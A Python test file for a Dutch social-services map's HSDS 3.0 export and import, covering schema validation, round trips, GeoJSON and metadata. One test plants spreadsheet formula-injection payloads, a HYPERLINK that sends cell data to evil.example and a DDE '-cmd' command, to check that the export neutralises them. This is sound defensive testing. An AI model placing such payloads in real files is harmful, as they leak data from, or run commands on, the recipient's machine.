"""HSDS 3.0 export validates against the Open Referral schemas; export then import loses nothing."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import ROOT, SHIPPED
from curation_helpers import curator

from socialmap.curation import hsds, importer, store
from socialmap.loader import check_region
from socialmap.schema import TABLES

VENDORED = Path(__file__).parent / "fixtures" / "curation" / "hsds-3.0"
SHARED = Path(os.environ.get("SOCIALMAP_HSDS_SCHEMAS", ROOT.parent / "shared" / "data" / "hsds-3.0"))
SHIPPED_REGIONS = ("kennemerland", "heuvelland")
FRAMES = ("organizations", "locations", "services", "service_at_location", "schedules", "gp_practices")


def _regions(mini_region: Path, tmp_path: Path) -> list[Path]:
    regions = [mini_region]
    for name in SHIPPED_REGIONS:
        if (SHIPPED.parent / name / "region.yaml").exists():
            shutil.copytree(SHIPPED.parent / name, tmp_path / name)
            regions.append(tmp_path / name)
    return regions


def test_the_hsds_export_validates_against_the_hsds_3_schemas_with_refs_and_formats(mini_region, tmp_path):
    for region in _regions(mini_region, tmp_path):
        package = hsds.export_package(region)
        assert hsds.validate_package(package, VENDORED) == []
        if (SHARED / "compiled" / "organization_package.json").exists():
            assert hsds.validate_package(package, SHARED) == []


def test_the_schema_check_catches_a_non_uuid_id_and_a_wrong_status(mini_region):
    package = hsds.export_package(mini_region)
    service = package[0]["services"][0]
    service["id"] = "svc-cjg"
    service["status"] = "verified"
    problems = hsds.validate_package(package, VENDORED)
    assert f"service svc-cjg id: 'svc-cjg' is not a 'uuid'" in problems
    assert "service svc-cjg status: 'verified' is not one of ['active', 'inactive', 'defunct', 'temporarily closed']" in problems


def _emptied_copy(region: Path, tmp_path: Path) -> Path:
    target = tmp_path / f"empty-{region.name}"
    shutil.copytree(region, target)
    for file in hsds.HSDS_FILES:
        (target / file).write_text(",".join(c.name for c in TABLES[file]) + "\n", encoding="utf-8")
    return target


def _assert_same_frames(original: Path, imported: Path) -> None:
    a, errors_a, _ = check_region(original)
    b, errors_b, _ = check_region(imported)
    assert errors_a == [] and errors_b == []
    for name in FRAMES:
        pd.testing.assert_frame_equal(getattr(a, name).sort_index(), getattr(b, name).sort_index(), check_like=True)


@pytest.mark.parametrize("form", ["json", "tabular"])
def test_export_then_import_into_an_empty_region_gives_back_the_same_frames(mini_region, tmp_path, form):
    for region in _regions(mini_region, tmp_path):
        data, name = ((hsds.export_json(region, include_illustrative=True), "export.json") if form == "json"
                      else (hsds.export_tabular_zip(region, include_illustrative=True), "export.zip"))
        target = _emptied_copy(region, tmp_path)
        preview = importer.preview_hsds(target, name, data)
        assert preview.errors == []
        assert preview.diffs["services.csv"].added  # everything comes back as new records
        importer.apply(target, preview, curator())
        _assert_same_frames(region, target)


def test_importing_the_export_of_the_same_region_changes_nothing(mini_region):
    preview = importer.preview_hsds(mini_region, "export.json", hsds.export_json(mini_region, include_illustrative=True))
    assert preview.ok and not preview.has_changes


def test_an_hsds_import_that_is_not_hsds_is_refused_with_a_message(mini_region):
    preview = importer.preview_hsds(mini_region, "x.json", b'{"hello": 1}')
    assert not preview.ok


def test_the_tabular_export_has_every_table_and_column_of_the_official_datapackage(mini_region):
    official = json.loads((hsds.OFFICIAL / "datapackage.json").read_text(encoding="utf-8"))
    with zipfile.ZipFile(io.BytesIO(hsds.export_tabular_zip(mini_region))) as zf:
        names = sorted(zf.namelist())
        assert names == sorted(["datapackage.json", *(r["path"] for r in official["resources"])])
        for resource in official["resources"]:
            header = next(csv.reader(io.StringIO(zf.read(resource["path"]).decode("utf-8"))))
            assert header == [f["name"] for f in resource["schema"]["fields"]], resource["path"]
        inside = json.loads(zf.read("datapackage.json"))
    assert inside["resources"] == official["resources"]
    assert [x["name"] for x in inside["licenses"]] == ["CC-BY-4.0", "CC-BY-4.0"]
    assert inside["sources"] == [{"title": "Testdata. Geometrie: vierkanten in RD New, geen echte CBS-grenzen."}]


def test_the_geojson_export_is_rfc_7946_with_areas_and_locations_in_wgs84(mini_region):
    data = json.loads(hsds.export_geojson(mini_region, include_illustrative=True))
    assert data["type"] == "FeatureCollection" and "crs" not in data
    assert data["attribution"] == "Testdata. Geometrie: vierkanten in RD New, geen echte CBS-grenzen."
    _, rows = store.read_rows(mini_region, "locations.csv")
    points = [f for f in data["features"] if f["properties"]["feature_type"] == "location"]
    assert [f["properties"]["id"] for f in points] == [r["id"] for r in rows]
    first = points[0]
    assert first["geometry"] == {"type": "Point", "coordinates": [4.595288, 52.314302]}
    assert first["properties"]["service_ids"] == ["svc-cjg"]
    areas = [f for f in data["features"] if f["properties"]["feature_type"] == "area"]
    _, area_rows = store.read_rows(mini_region, "areas.csv")
    assert sorted(f["id"] for f in areas) == sorted(r["code"] for r in area_rows)
    for feature in areas:
        lon, lat = feature["geometry"]["coordinates"][0][0]
        assert 3.2 < lon < 7.3 and 50.7 < lat < 53.7


# ---- honest semantics -------------------------------------------------------------------------

def _services(package: list[dict]) -> dict[str, dict]:
    return {hsds._local_id(s): s for org in package for s in org.get("services", [])}


def _with_province(region: Path) -> Path:
    path = region / "region.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "province: Noord-Holland\n", encoding="utf-8")
    return region


def test_illustrative_records_are_not_exported_unless_asked_and_then_inactive_with_an_alert(mini_region):
    default = _services(hsds.export_package(mini_region))
    assert sorted(default) == ["svc-baby", "svc-cjg", "svc-hap"]
    orgs = [hsds._local_id(o) for o in hsds.export_package(mini_region)]
    assert "org-gp" not in orgs
    everything = _services(hsds.export_package(mini_region, include_illustrative=True))
    assert everything["svc-poh"]["status"] == "inactive"
    assert everything["svc-poh"]["alert"] == hsds.ALERT_ILLUSTRATIVE
    assert everything["svc-cjg"]["status"] == "active" and "alert" not in everything["svc-cjg"]


def test_a_to_verify_service_carries_an_alert(mini_region):
    hap = _services(hsds.export_package(mini_region))["svc-hap"]
    assert hap["status"] == "active"
    assert hap["alert"] == ("Nog niet geverifieerd: gegevens uit openbare bronnen, controleer ze voordat u verwijst. "
                            "(Not yet verified: check before referring.)")


def test_every_export_carries_the_licences_and_the_attribution(mini_region):
    attribution = "Testdata. Geometrie: vierkanten in RD New, geen echte CBS-grenzen."
    document = json.loads(hsds.export_json(mini_region))
    assert document["attribution"] == attribution
    assert [x["path"] for x in document["licenses"]] == ["https://creativecommons.org/licenses/by/4.0/"] * 2
    assert document["profile"] == hsds.PROFILE_URL and document["hsds_version"] == "3.0"
    assert json.loads(hsds.export_geojson(mini_region))["attribution"] == attribution
    with zipfile.ZipFile(io.BytesIO(hsds.export_tabular_zip(mini_region))) as zf:
        assert json.loads(zf.read("datapackage.json"))["sources"] == [{"title": attribution}]


def test_a_service_area_has_its_extent_in_wgs84_geojson_and_a_cbs_uri(mini_region):
    areas = _services(hsds.export_package(mini_region))["svc-cjg"]["service_areas"]
    assert [a["name"] for a in areas] == ["GM9991"]
    extent = json.loads(areas[0]["extent"])
    assert areas[0]["extent_type"] == "geojson" and extent["type"] == "Polygon"
    assert all(3.2 < lon < 7.3 and 50.7 < lat < 53.7 for lon, lat in extent["coordinates"][0])
    assert areas[0]["uri"] == ("https://api.pdok.nl/cbs/wijken-en-buurten-2024/ogc/v1/collections/gemeenten/items"
                               "?gemeentecode=GM9991")
    national = _services(hsds.export_package(mini_region))["svc-hap"]["service_areas"][0]
    assert national["uri"] == hsds.NL_URI and "extent" not in national


def test_care_level_concerns_access_route_and_profession_are_one_attribute_per_taxonomy_term(mini_region):
    package = hsds.export_package(mini_region)
    cjg = _services(package)["svc-cjg"]
    terms = {(a["link_type"], a["value"]): a["taxonomy_term_id"] for a in cjg["attributes"]}
    assert terms[("socialmap:concerns", "parenting")] == hsds.value_term_id("socialmap-concerns", "parenting")
    assert terms[("socialmap:concerns", "sleep")] == hsds.value_term_id("socialmap-concerns", "sleep")
    assert terms[("socialmap:level", "open_access")] == hsds.value_term_id("socialmap-care-levels", "open_access")
    assert ("socialmap:access_route", "vrij_toegankelijk") in terms
    assert ("socialmap:professional", "jeugdverpleegkundige") in terms
    published = {t["id"]: t for tax in hsds.taxonomies(package) for t in tax["terms"]}
    assert all(term in published for term in terms.values())
    assert published[terms[("socialmap:concerns", "sleep")]]["name"] == "Slapen"


def test_cost_and_access_route_go_to_the_standard_fields(mini_region):
    cjg = _services(hsds.export_package(mini_region))["svc-cjg"]
    assert cjg["fees_description"] == "Gratis."
    assert [(c["option"], c["amount"], c["currency"]) for c in cjg["cost_options"]] == [("Gratis", 0.0, "EUR")]
    assert cjg["application_process"] == "Vrij toegankelijk: zonder verwijzing; bel, mail of loop binnen."
    hap = _services(hsds.export_package(mini_region))["svc-hap"]
    assert "amount" not in hap["cost_options"][0]


def test_phones_are_e164_when_dialable_from_abroad_and_national_otherwise():
    assert hsds.phone_number("023-5114477") == "+31235114477"
    assert hsds.phone_number("0800-0432") == "+318000432"
    assert hsds.phone_number("112") == "112"
    assert hsds.phone_number("113") == "113"
    assert hsds.phone_number("14 023") == "14 023"


def test_opening_hours_are_hh_mm_ss_and_midnight_is_the_last_second_of_the_day(mini_region):
    hours = {hsds._local_id(s): s for s in _services(hsds.export_package(mini_region))["svc-hap"]["schedules"]}
    assert (hours["sch-3"]["opens_at"], hours["sch-3"]["closes_at"]) == ("00:00:00", "23:59:59")
    assert hours["sch-3"]["description"] == "Open tot middernacht (einde van de dag)."


def test_an_address_is_exported_only_when_the_required_fields_are_known(mini_region):
    def address(region: Path) -> list:
        loc = next(loc for org in hsds.export_package(region, True) for loc in org.get("locations", [])
                   if hsds._local_id(loc) == "loc-cjg")
        return loc.get("addresses", [])

    assert address(mini_region) == []  # no province known for the region
    [addr] = address(_with_province(mini_region))
    assert (addr["address_1"], addr["postal_code"], addr["city"], addr["state_province"], addr["country"]) == \
        ("Teststraat 1", "9991 AA", "Testgemeente", "Noord-Holland", "NL")
    placeholder = next(loc for org in hsds.export_package(mini_region, True) for loc in org.get("locations", [])
                       if hsds._local_id(loc) == "loc-gp")
    assert "addresses" not in placeholder and "description" not in placeholder


def test_the_curation_history_becomes_hsds_metadata_with_the_values_before_and_after(mini_region):
    from socialmap.curation import records

    records.upsert(mini_region, "service", records.record(mini_region, "service", "svc-cjg") | {"name": "Opvoedpunt"},
                   curator(), store.version_token(mini_region), original_id="svc-cjg")
    [meta] = _services(hsds.export_package(mini_region))["svc-cjg"]["metadata"]
    assert (meta["field_name"], meta["previous_value"], meta["replacement_value"], meta["last_action_type"]) == \
        ("name", "Opvoedspreekuur CJG", "Opvoedpunt", "edit")
    assert meta["updated_by"] == curator().name
    with zipfile.ZipFile(io.BytesIO(hsds.export_tabular_zip(mini_region))) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("metadata.csv").decode("utf-8"))))
    assert [(r["field_name"], r["replacement_value"]) for r in rows] == [("name", "Opvoedpunt")]


def test_free_text_that_would_start_a_spreadsheet_formula_is_neutralised_but_phones_are_not(mini_region):
    path = mini_region / "services.csv"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "Opvoedspreekuur CJG,Vragen over opvoeden", '"=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")",@SUM(1+1)'),
        encoding="utf-8")
    orgs = mini_region / "organizations.csv"
    orgs.write_text(orgs.read_text(encoding="utf-8").replace("Centrum voor Jeugd en Gezin", "-cmd|' /C calc'!A0"),
                    encoding="utf-8")
    with zipfile.ZipFile(io.BytesIO(hsds.export_tabular_zip(mini_region))) as zf:
        services = {r["name"]: r for r in csv.DictReader(io.StringIO(zf.read("services.csv").decode("utf-8")))}
        organizations = list(csv.DictReader(io.StringIO(zf.read("organizations.csv").decode("utf-8"))))
        phones = [r["number"] for r in csv.DictReader(io.StringIO(zf.read("phones.csv").decode("utf-8")))]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")" in services
    assert services["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"]["description"] == "'@SUM(1+1)"
    assert "'-cmd|' /C calc'!A0" in [o["description"] for o in organizations]
    assert "+31231234567" in phones  # a structured column keeps its leading '+'


@pytest.mark.parametrize("region", SHIPPED_REGIONS)
def test_the_json_export_validates_against_every_official_compiled_schema_with_a_registry(tmp_path, region):
    import jsonschema
    from referencing import Registry
    from referencing.jsonschema import DRAFT202012

    shutil.copytree(SHIPPED.parent / region, tmp_path / region)
    # every official compiled schema when the full set is at hand, else the ones shipped with the package
    compiled = SHARED / "compiled" if (SHARED / "compiled" / "service.json").exists() else hsds.OFFICIAL / "compiled"
    schemas = {p.name: json.loads(p.read_text(encoding="utf-8")) for p in compiled.glob("*.json")}
    registry = Registry().with_resources((name, DRAFT202012.create_resource(s)) for name, s in schemas.items())

    def errors(schema: str, instance: object) -> list[str]:
        validator = jsonschema.Draft202012Validator(schemas[schema], registry=registry,
                                                    format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
        return [e.message for e in validator.iter_errors(instance)]

    for include in (False, True):
        package = hsds.export_package(tmp_path / region, include)
        assert errors("organization_package.json", package) == []
        services = [s for org in package for s in org.get("services", [])]
        assert [e for s in services for e in errors("service_with_definitions.json", s)] == []
        if "service.json" in schemas:
            assert [e for org in package for e in errors("organization.json", org)] == []
            assert [e for s in services for e in errors("service.json", s)] == []
            sals = [x for s in services for x in s.get("service_at_locations", [])]
            assert [e for x in sals for e in errors("service_at_location.json", x)] == []
            assert sals or not include  # Heuvelland's real services have no location yet
